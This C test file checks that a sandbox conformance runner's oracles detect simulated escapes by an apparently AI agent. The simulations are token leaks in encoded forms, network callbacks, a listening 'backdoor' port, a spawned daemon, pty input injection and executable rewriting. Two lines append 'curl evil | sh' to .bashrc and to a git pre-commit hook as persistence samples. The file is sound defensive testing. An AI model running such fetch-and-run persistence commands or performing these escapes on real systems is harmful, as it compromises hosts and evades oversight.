/*
 * test_conform_oracle.c - no blind oracle: every oracle of the
 * conformance runner fires on a benign simulation of its effect, and stays
 * quiet without it.  Where an oracle rests on a measurement (the sampler's
 * process, thread, zombie and memory counts), its threshold is checked here
 * and the measurement against real processes in test_conform_sampler.c.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#include "netns.h"
#include "oracle.h"
#include "oracle_env.h"
#include "common.h"

#define E oracle_env

static void output(const char *text)
{
	oracle_env_output(E, text);
}

static uint64_t fired(void)
{
	return oracle_env_fired(E);
}

static void quiet(void)
{
	oracle_env_quiet(E);
}

/* ---- token -------------------------------------------------------------- */

static void test_token_encodings(void **state)
{
	const char *tok = tokens_get(&E->tk, "~/.ssh/id_rsa");
	char text[512], hex[128], rev[64];
	size_t n = strlen(tok);

	(void)state;
	quiet();
	snprintf(text, sizeof(text), "key: %s\n", tok);
	output(text);
	assert_true(fired() & BIT(TOKEN));
	for (size_t i = 0; i < n; i++) {
		rev[i] = tok[n - 1 - i];
		snprintf(hex + 2 * i, 3, "%02X", (unsigned char)tok[i]);
	}
	rev[n] = '\0';
	output(rev);
	assert_true(fired() & BIT(TOKEN));
	output(hex);
	assert_true(fired() & BIT(TOKEN));
	/* spread over quotes and whitespace, as print(list(s)) would */
	text[0] = '\0';
	for (size_t i = 0; i < n; i++)
		snprintf(text + strlen(text), sizeof(text) - strlen(text),
		         "'%c', ", tok[i]);
	output(text);
	assert_true(fired() & BIT(TOKEN));
	/* half a token is not a token */
	snprintf(text, sizeof(text), "%.*s", (int)(n / 2), tok);
	output(text);
	assert_false(fired() & BIT(TOKEN));
}

static void test_token_base64_alignments(void **state)
{
	const char *tok = tokens_get(&E->tk, "env OPENAI_API_KEY");
	char in[128], cmd[512], out[512];

	(void)state;
	/* base64 by another implementation, after 0, 1 and 2 bytes */
	for (int k = 0; k < 3; k++) {
		FILE *p;
		size_t len;

		snprintf(in, sizeof(in), "%.*s%s", k, "ab", tok);
		snprintf(cmd, sizeof(cmd), "printf '%%s' '%s' | base64 -w0",
		         in);
		p = popen(cmd, "r");
		assert_non_null(p);
		len = fread(out, 1, sizeof(out) - 1, p);
		out[len] = '\0';
		pclose(p);
		output(out);
		assert_true(fired() & BIT(TOKEN));
	}
}

/* ---- the listeners ---------------------------------------------------- */

static int inet(int type, int port)
{
	struct sockaddr_in sa = {.sin_family = AF_INET,
	                         .sin_port = htons((unsigned short)port)};
	int fd = socket(AF_INET, type, 0);

	inet_pton(AF_INET, "127.0.0.1", &sa.sin_addr);
	assert_true(fd >= 0);
	if (type == SOCK_DGRAM)
		assert_int_equal(
		    sendto(fd, "x", 1, 0, (struct sockaddr *)&sa, sizeof(sa)),
		    1);
	else
		assert_int_equal(
		    connect(fd, (struct sockaddr *)&sa, sizeof(sa)), 0);
	return fd;
}

static void wait_hit(uint64_t bit)
{
	for (int i = 0; i < 100 && !(fired() & bit); i++)
		usleep(20000);
	assert_true(fired() & bit);
}

static void test_network(void **state)
{
	struct sockaddr_un su = {.sun_family = AF_UNIX};
	struct sockaddr_in sa = {.sin_family = AF_INET};
	int fd, one = 1;

	(void)state;
	quiet();
	fd = inet(SOCK_STREAM, E->l.tcp_port);
	(void)!write(fd, "GET / HTTP/1.0\r\n\r\n", 18);
	wait_hit(BIT(TCP));
	close(fd);
	quiet();
	close(inet(SOCK_DGRAM, E->l.udp_port));
	wait_hit(BIT(UDP));
	quiet();
	fd = socket(AF_UNIX, SOCK_STREAM, 0);
	assert_true(strlen(E->l.unix_path[1]) < sizeof(su.sun_path));
	memcpy(su.sun_path, E->l.unix_path[1], strlen(E->l.unix_path[1]) + 1);
	assert_int_equal(connect(fd, (struct sockaddr *)&su, sizeof(su)), 0);
	(void)!write(fd, "x\r\n\r\n", 5);
	wait_hit(BIT(UNIX));
	close(fd);
	/* a backdoor: listening where the runner keeps knocking */
	quiet();
	fd = socket(AF_INET, SOCK_STREAM, 0);
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	sa.sin_port = htons((unsigned short)E->l.backdoor_port);
	inet_pton(AF_INET, "127.0.0.1", &sa.sin_addr);
	assert_int_equal(bind(fd, (struct sockaddr *)&sa, sizeof(sa)), 0);
	assert_int_equal(listen(fd, 4), 0);
	wait_hit(BIT(BACKDOOR));
	close(fd);
}

/* What a run sent before it ended is counted once listener_sync returns,
 * without waiting: a connection made, written to and closed, a datagram. */
static void test_network_synced(void **state)
{
	struct sockaddr_un su = {.sun_family = AF_UNIX};
	char reply[64];
	int fd;

	(void)state;
	quiet();
	fd = inet(SOCK_STREAM, E->l.tcp_port);
	(void)!write(fd, "PATH=/usr/bin\nHOME=/x\n", 22);
	close(fd);
	close(inet(SOCK_DGRAM, E->l.udp_port));
	assert_int_equal(listener_sync(&E->l), 0);
	assert_true((fired() & (BIT(TCP) | BIT(UDP))) == (BIT(TCP) | BIT(UDP)));
	/* a binary request (an ssh-agent's) is answered while its client
	 * keeps the connection open, and counted */
	quiet();
	fd = socket(AF_UNIX, SOCK_STREAM, 0);
	memcpy(su.sun_path, E->l.unix_path[1], strlen(E->l.unix_path[1]) + 1);
	assert_int_equal(connect(fd, (struct sockaddr *)&su, sizeof(su)), 0);
	(void)!write(fd, "\0\0\0\1\v", 5);
	assert_true(read(fd, reply, sizeof(reply)) > 0);
	assert_int_equal(listener_sync(&E->l), 0);
	assert_true(fired() & BIT(UNIX));
	close(fd);
}

/* ---- files ----------------------------------------------------------------
 */

static void append(const char *dir, const char *rel, const char *text)
{
	char path[1200];
	FILE *f;

	snprintf(path, sizeof(path), "%s/%s", dir, rel);
	f = fopen(path, "a");
	assert_non_null(f);
	fputs(text, f);
	fclose(f);
}

static void test_files(void **state)
{
	(void)state;
	quiet();
	append(E->c.dir, "host-marker", "");
	assert_true(fired() & BIT(MARKER));
	quiet();
	append(E->c.prod, "reports/q1.csv", "east,1\n");
	assert_true(fired() & BIT(MANIFEST));
	quiet();
	append(E->c.home, ".bashrc", "curl evil | sh\n");
	assert_true(fired() & BIT(HOME));
	quiet();
	append(E->c.work, ".git/hooks/pre-commit", "curl evil | sh\n");
	assert_true(fired() & BIT(WORKSPACE));
	quiet();
	append(E->c.work, "core", "ELF");
	assert_true(fired() & BIT(CORE));
	/* seen once, then gone */
	assert_false(fired() & BIT(CORE));
	/* the workspace's own files are the agent's to edit */
	append(E->c.work, "analysis.py", "print(2)\n");
	assert_false(fired() & BIT(WORKSPACE));
}

/* ---- processes ------------------------------------------------------------
 */

static void test_thresholds(void **state)
{
	(void)state;
	quiet();
	E->o.peak_procs = PROCS_THRESHOLD + 1;
	assert_true(fired() & BIT(PROCS));
	quiet();
	E->o.peak_threads = THREADS_THRESHOLD + 1;
	assert_true(fired() & BIT(THREADS));
	quiet();
	E->o.peak_zombies = ZOMBIES_THRESHOLD + 1;
	assert_true(fired() & BIT(ZOMBIES));
	quiet();
	E->o.peak_rss_kb = MEMORY_THRESHOLD_KB + 1;
	assert_true(fired() & BIT(MEMORY));
	quiet();
	E->o.low_memory = true;
	assert_true(fired() & BIT(MEMORY));
	quiet();
	E->o.elapsed_ms = E->a.timeout_ms + GRACE_MS;
	assert_true(fired() & BIT(TIMEOUT));
	/* at the limits, nothing */
	quiet();
	E->o.peak_procs = PROCS_THRESHOLD;
	E->o.peak_rss_kb = MEMORY_THRESHOLD_KB;
	E->o.elapsed_ms = E->a.timeout_ms + GRACE_MS - 1;
	assert_true(fired() == 0);
}

static void test_leftover(void **state)
{
	pid_t pid;
	int status;

	(void)state;
	quiet();
	/* a daemon: double fork, the grandchild comes back to us */
	assert_int_equal(prctl(PR_SET_CHILD_SUBREAPER, 1), 0);
	pid = fork();
	if (pid == 0) {
		if (fork() == 0) {
			setsid();
			pause();
		}
		_exit(0);
	}
	waitpid(pid, &status, 0);
	usleep(50000);
	assert_true(fired() & BIT(LEFTOVER));
	/* the sweep killed it */
	usleep(50000);
	while (waitpid(-1, &status, WNOHANG) > 0)
		;
	assert_false(fired() & BIT(LEFTOVER));
	prctl(PR_SET_CHILD_SUBREAPER, 0);
}

/* After a case: the sweep kills what the case left running (a daemon
 * handed back to this subreaper, a child still running), and the reap
 * collects them and the children that ended, but never a fixture's,
 * which its owner waits for. */
static pid_t started[8];
static int n_started;

static pid_t start(int how)
{
	pid_t pid = fork();

	if (pid == 0) {
		if (how == 2 && fork() == 0) { /* a daemon */
			setsid();
			pause();
		}
		if (how == 1)
			pause();
		_exit(how == 3 ? 3 : 0);
	}
	if (pid > 0 && n_started < 8)
		started[n_started++] = pid;
	return pid;
}

/* A failed assertion leaves no process behind for the next tests. */
static int end_started(void **state)
{
	(void)state;
	oracle_sweep("", NULL, 0, (char[64]){0}, 64);
	for (int i = 0; i < n_started; i++)
		waitpid(started[i], NULL, WNOHANG);
	oracle_reap(NULL, 0, 1, 1000);
	n_started = 0;
	prctl(PR_SET_CHILD_SUBREAPER, 0);
	return 0;
}

static void test_sweep_then_reap(void **state)
{
	pid_t ended, running, fixture, daemon_parent, got;
	int status, swept;
	char ev[512];

	(void)state;
	assert_int_equal(prctl(PR_SET_CHILD_SUBREAPER, 1), 0);
	ended = start(0);
	fixture = start(3);
	running = start(1);
	daemon_parent = start(2);
	assert_int_equal(waitpid(daemon_parent, &status, 0), daemon_parent);
	usleep(50000); /* the daemon is now ours; ended and fixture ended */

	swept = oracle_sweep("", &fixture, 1, ev, sizeof(ev));
	assert_int_equal(swept, 2); /* running and the daemon */
	assert_int_equal(oracle_reap(&fixture, 1, swept, 2000), 0);
	/* all but the fixture's were reaped: none is left to wait for */
	errno = 0;
	assert_int_equal(waitpid(ended, &status, WNOHANG), -1);
	assert_int_equal(errno, ECHILD);
	assert_int_equal(waitpid(running, &status, WNOHANG), -1);
	/* the fixture's exit status is still its owner's */
	assert_int_equal(waitpid(fixture, &status, 0), fixture);
	assert_true(WIFEXITED(status) && WEXITSTATUS(status) == 3);
	got = waitpid(-1, &status, WNOHANG);
	assert_int_equal(got, -1);

	/* nothing swept, but a child that ended on its own is reaped */
	ended = start(0);
	usleep(50000);
	assert_int_equal(oracle_reap(NULL, 0, 0, 0), 0);
	assert_int_equal(waitpid(ended, &status, WNOHANG), -1);

	/* one that outlives the wait is counted */
	running = start(1);
	assert_int_equal(oracle_reap(NULL, 0, 1, 30), 1);
	kill(running, SIGKILL);
	assert_int_equal(waitpid(running, &status, 0), running);
}

static void test_declared_only(void **state)
{
	char text[128];

	(void)state;
	quiet();
	E->o.files_before = 1000;
	E->o.files_peak = 1000 + FDS_THRESHOLD + 1;
	E->o.free_bytes_before = DISK_THRESHOLD * 4;
	E->o.free_bytes_min = DISK_THRESHOLD * 2;
	E->o.free_inodes_before = 100000;
	E->o.free_inodes_min = 100000 - INODES_THRESHOLD - 1;
	snprintf(E->o.caps, sizeof(E->o.caps), "pid 1 has CapEff 1");
	snprintf(text, sizeof(text), "bpf %s\n", E->probe);
	output(text);
	/* undeclared: host-wide gauges and self-reports mean nothing */
	assert_true(fired() == 0);
	E->a.oracles =
	    BIT(FDS) | BIT(DISK) | BIT(INODES) | BIT(CAPS) | BIT(REACH);
	assert_true((fired() & E->a.oracles) == E->a.oracles);
	output("bpf reachable, no nonce\n");
	assert_false(fired() & BIT(REACH));
	E->a.oracles = 0;
}

/* ---- fixtures' oracles -----------------------------------------------------
 */

static void test_fixture_oracles(void **state)
{
	struct column col = {.name = "bwrap", .sandbox = true, .usable = true};
	struct fixtures f;
	char err[512], ev[1024];
	size_t used = 0;
	FILE *exe;

	(void)state;
	assert_int_equal(fixtures_setup(&f,
	                                FIXTURE_BIT(FIXTURE_TTY) |
	                                    FIXTURE_BIT(FIXTURE_VICTIM),
	                                &E->c, &E->tk, err, sizeof(err)),
	                 0);
	/* quiet */
	assert_int_equal(fixtures_before(&f, &col, err, sizeof(err)), 0);
	{
		/* the victim runs its copy as soon as the run may start: an
		 * attack holding /proc/PID/exe before that exec would hold
		 * this program instead */
		char path[64], link[PATH_MAX];
		ssize_t n;

		snprintf(path, sizeof(path), "/proc/%d/exe", (int)f.victim);
		n = readlink(path, link, sizeof(link) - 1);
		assert_true(n > 0);
		link[n] = '\0';
		assert_string_equal(link, f.victim_exe);
	}
	assert_true(fixtures_after(&f, ev, sizeof(ev), &used) == 0);
	/* bytes in the pty's input queue; the victim's program rewritten */
	assert_int_equal(fixtures_before(&f, &col, err, sizeof(err)), 0);
	assert_int_equal(write(f.tty_master, "id\n", 3), 3);
	usleep(50000);
	kill(f.victim, SIGKILL);
	usleep(50000);
	exe = fopen(f.victim_exe, "r+");
	assert_non_null(exe);
	fputs("#!/bin/sh\n", exe);
	fclose(exe);
	assert_true(fixtures_after(&f, ev, sizeof(ev), &used) ==
	            (BIT(TTY) | BIT(EXE)));
	fixtures_teardown(&f);
}

static void test_peer_callback(void **state)
{
	struct column col = {
	    .name = "control", .control = true, .usable = true};
	struct fixtures f;
	char err[512], ev[1024];
	size_t used = 0;

	(void)state;
	assert_int_equal(fixtures_setup(&f, FIXTURE_BIT(FIXTURE_PEER), &E->c,
	                                &E->tk, err, sizeof(err)),
	                 0);
	assert_int_equal(fixtures_before(&f, &col, err, sizeof(err)), 0);
	assert_true(f.peer_sandbox > 0);
	assert_true(fixtures_after(&f, ev, sizeof(ev), &used) == 0);
	assert_int_equal(fixtures_before(&f, &col, err, sizeof(err)), 0);
	append(E->c.dir, "peer-called", "called\n");
	assert_true(fixtures_after(&f, ev, sizeof(ev), &used) == BIT(CALLBACK));
	fixtures_teardown(&f);
}

/* In a child: its own namespaces (root), the sysctl and hostname changed. */
static void test_namespaced_oracles(void **state)
{
	pid_t pid;
	int status;

	(void)state;
	only_if(geteuid() == 0, "the sysctl and hostname fixtures need root");
	pid = fork();
	if (pid == 0) {
		struct column col = {
		    .name = "control", .control = true, .usable = true};
		struct fixtures f;
		char err[512], ev[1024];
		size_t used = 0;
		uint64_t quiet_bits, loud_bits;
		FILE *s;

		if (netns_enter(err, sizeof(err)) < 0 ||
		    fixtures_setup(&f,
		                   FIXTURE_BIT(FIXTURE_SYSCTL) |
		                       FIXTURE_BIT(FIXTURE_HOSTNAME),
		                   &E->c, &E->tk, err, sizeof(err)) < 0 ||
		    fixtures_before(&f, &col, err, sizeof(err)) < 0)
			_exit(2);
		quiet_bits = fixtures_after(&f, ev, sizeof(ev), &used);
		if (fixtures_before(&f, &col, err, sizeof(err)) < 0)
			_exit(2);
		s = fopen("/proc/sys/net/ipv4/ip_default_ttl", "w");
		if (!s)
			_exit(2);
		fputs("99\n", s);
		fclose(s);
		sethostname("changed", 7);
		loud_bits = fixtures_after(&f, ev, sizeof(ev), &used);
		_exit(quiet_bits == 0 &&
		              loud_bits == (BIT(SYSCTL) | BIT(HOSTNAME))
		          ? 0
		          : 1);
	}
	assert_int_equal(waitpid(pid, &status, 0), pid);
	assert_true(WIFEXITED(status));
	assert_int_equal(WEXITSTATUS(status), 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_token_encodings),
	    cmocka_unit_test(test_token_base64_alignments),
	    cmocka_unit_test(test_network),
	    cmocka_unit_test(test_files),
	    cmocka_unit_test(test_thresholds),
	    cmocka_unit_test(test_leftover),
	    cmocka_unit_test_teardown(test_sweep_then_reap, end_started),
	    cmocka_unit_test(test_declared_only),
	    cmocka_unit_test(test_network_synced),
	    cmocka_unit_test(test_fixture_oracles),
	    cmocka_unit_test(test_peer_callback),
	    cmocka_unit_test(test_namespaced_oracles),
	};

	return cmocka_run_group_tests(tests, oracle_env_group_setup,
	                              oracle_env_group_teardown);
}
